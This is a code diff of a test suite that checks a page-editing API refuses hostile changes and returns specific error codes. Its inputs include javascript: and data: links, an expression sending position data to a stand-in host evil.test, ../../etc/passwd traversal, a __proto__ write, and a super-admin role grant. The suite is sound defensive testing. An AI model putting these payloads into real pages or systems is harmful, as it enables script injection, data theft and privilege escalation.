@@ -13,10 +13,13 @@ const key = 'first-page.positions';
 const folder = join(productRoot(), 'stories/guide/first-page');
 const text = (words: string) => ({ t: { 'zh-CN': words, 'en-US': words } });
 const put = (value: Record<string, unknown>) => ({ op: 'insert', parent: 'root', slot: 'default', value });
-const button = (...press: Record<string, unknown>[]) =>
-  put({ id: 'x.go', widget: 'Button', props: { label: text('Go') }, on: { press } });
+const button = (...click: Record<string, unknown>[]) =>
+  put({ id: 'x.go', widget: 'Button', props: { label: text('Go') }, on: { click } });
 const load = (...actions: Record<string, unknown>[]) => ({ op: 'set', path: ['load'], value: actions });
-const someone = '01J00000000000000000000001';
+const set = (name: string, value: string, was: string) => ({ op: 'set', path: [name], value, was });
+const link = (href: unknown) => put({ id: 'x.a', widget: 'Link', props: { label: text('A'), href } });
+const roles = { id: '01J00000000000000000000001', roles: ['WORKSPACE_SUPER_ADMIN'] };
+const told = "'https://evil.test/?' + string(data.positions.total)";
 
 test('P28 a link in the folder of pages leads nowhere, and an id or an address of the product is not taken', async () => {
   const own = mkdtempSync(join(inject('runFolder'), 'pages-'));
@@ -38,42 +41,30 @@ describeOnEachDatabase('changes to a page of the deployment', (open) => {
     return () => api.close();
   });
 
-  const attacks: [string, Record<string, unknown>[]][] = [
-    ['loading grants roles', [load({ do: 'call', call: 'updateAccount', with: { id: someone, roles: [] } })]],
-    ['a press grants roles', [button({ do: 'call', call: 'updateAccount', with: { id: someone, roles: [] } })]],
-    ['loading writes by an allowed call', [load({ do: 'call', call: 'createPosition', with: { tagName: 'x' } })]],
-    ['it is shown to more people', [{ op: 'set', path: ['roles'], value: 'public' }]],
-    ['it takes the address of the sign-in page', [{ op: 'set', path: ['route'], value: '/login' }]],
-    ['it is another document', [{ op: 'set', path: ['id'], value: 'session.login' }]],
-    [
-      'a link runs code',
-      [put({ id: 'x.a', widget: 'Link', props: { label: text('A'), href: 'javascript:alert(1)' } })],
-    ],
-    ['a link of data', [put({ id: 'x.a', widget: 'Link', props: { label: text('A'), href: 'data:text/html,x' } })]],
-    [
-      'data go into a foreign address',
-      [
-        put({
-          id: 'x.a',
-          widget: 'Image',
-          props: { alt: text('A'), src: { $: "'https://evil.test/?' + data.positions.total" } },
-        }),
-      ],
-    ],
-    ['an unknown widget', [put({ id: 'x.a', widget: 'script', props: { src: 'https://evil.test/a.js' } })]],
-    ['a prototype is written', [{ op: 'set', path: ['__proto__', 'x'], value: 1 }]],
-    ['a document outside of the folder is included', [put({ id: 'x.a', fragment: '../../etc/passwd' })]],
+  const attacks: [string, string, Record<string, unknown>[]][] = [
+    ['loading grants roles', 'CHANGE_CALL', [load({ do: 'call', call: 'updateAccount', with: roles })]],
+    ['a press grants roles', 'CHANGE_CALL', [button({ do: 'call', call: 'updateAccount', with: roles })]],
+    ['loading writes', 'CHANGE_CALL', [load({ do: 'call', call: 'createPosition', with: { tagName: 'x' } })]],
+    ['it is shown to more people', 'PAGE_OPERATION_FORBIDDEN', [set('roles', 'signedIn', 'accountAdmins')]],
+    ['it takes another address', 'OVERLAY_NAME_RESERVED', [set('route', '/login', '/workbench/positions')]],
+    ['it is another document', 'OVERLAY_NAME_RESERVED', [set('id', 'session.login', key)]],
+    ['a link runs code', 'PAGE_URL_UNSAFE', [link('javascript:alert(1)')]],
+    ['a link is data', 'PAGE_URL_UNSAFE', [link('data:text/html,x')]],
+    ['data go into a foreign address', 'CHANGE_ADDRESS', [link({ $: told })]],
+    ['a widget is a script', 'PAGE_WIDGET_UNKNOWN', [put({ id: 'x.a', widget: 'script', props: { src: 'a.js' } })]],
+    ['a prototype is written', 'OVERLAY_NAME_RESERVED', [{ op: 'set', path: ['__proto__', 'x'], value: 1 }]],
+    ['a path leads out of the folder', 'PAGE_VALUE', [put({ id: 'x.a', fragment: '../../etc/passwd' })]],
   ];
 
-  test.each(attacks)('P43 P18 is refused where %s', async (_, operations) => {
+  test.each(attacks)('P43 P18 a change is refused by which %s', async (_, code, operations) => {
     const editor = await createEditor(api, 'owner', { kind: 'overlay', key });
     const answer = await editor.save({ document: key, operations });
-    expect([answer.status, answer.code]).toEqual([422, answer.code]);
-    if (answer.code === 'invalid_document') expect(diagnosticsOf(answer).length).toBeGreaterThan(0);
+    expect(answer.status).toBe(422);
+    expect(diagnosticsOf(answer).map((found) => found.code)).toContain(code);
   });
 
   test.each(['../package', '__proto__', 'constructor', 'first-page.positions/../x', '/etc/passwd'])(
-    'P43 P2 a change to %s is refused like one to an unknown page',
+    'P43 P2 no page is changed by the name %s',
     async (name) => {
       const [odd, unknown] = await Promise.all(
         [name, 'no.such.page'].map(async (one) => {
@@ -81,18 +72,17 @@ describeOnEachDatabase('changes to a page of the deployment', (open) => {
           return editor.save({ document: one, operations: [] });
         }),
       );
-      expect(odd?.status).toBeGreaterThanOrEqual(400);
-      expect(odd?.status).toBeLessThan(500);
-      expect(unknown?.status).toBeGreaterThanOrEqual(400);
+      expect([name, odd?.status, odd?.code]).toEqual([name, expect.any(Number), expect.any(String)]);
+      expect([404, 422]).toContain(odd?.status);
+      expect([404, 422]).toContain(unknown?.status);
     },
   );
 
   test('P2 P43 what one workspace changed is not found by another one, by name, by hash or by version', async () => {
     const editor = await createEditor(api, 'owner', { kind: 'overlay', key });
-    const title = text('Only at Acme');
     const released = await editor.release({
       document: key,
-      operations: [{ op: 'set', path: ['title'], value: title }],
+      operations: [{ op: 'set', path: ['title'], value: text('Only at Acme'), was: { t: 'positions.title' } }],
     });
     expect(released.key).toBe(key);
     const hashOf = async (username: string) => {
